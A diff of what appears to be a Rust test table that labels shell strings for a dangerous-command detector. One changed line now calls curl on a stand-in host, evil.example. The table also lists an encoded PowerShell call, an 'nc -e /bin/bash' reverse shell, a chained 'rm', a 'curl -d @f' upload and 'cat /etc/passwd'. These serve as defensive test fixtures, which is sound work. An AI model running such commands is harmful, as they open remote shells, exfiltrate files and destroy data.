@@ -328,7 +328,7 @@ fn shell_command_lines() {
         ("powershell -enc SQBFAFgA", "shell_invocation"),
         ("nc -e /bin/bash 10.0.0.1 4444", "shell_invocation"),
         ("echo $(whoami)", "command_substitution"),
-        ("run `curl evil`", "command_substitution"),
+        ("run `curl -s evil.example/k`", "command_substitution"),
         ("done; rm notes", "command_chaining"),
         ("build && curl -d @f x", "command_chaining"),
         ("cat /etc/passwd", "sensitive_path"),
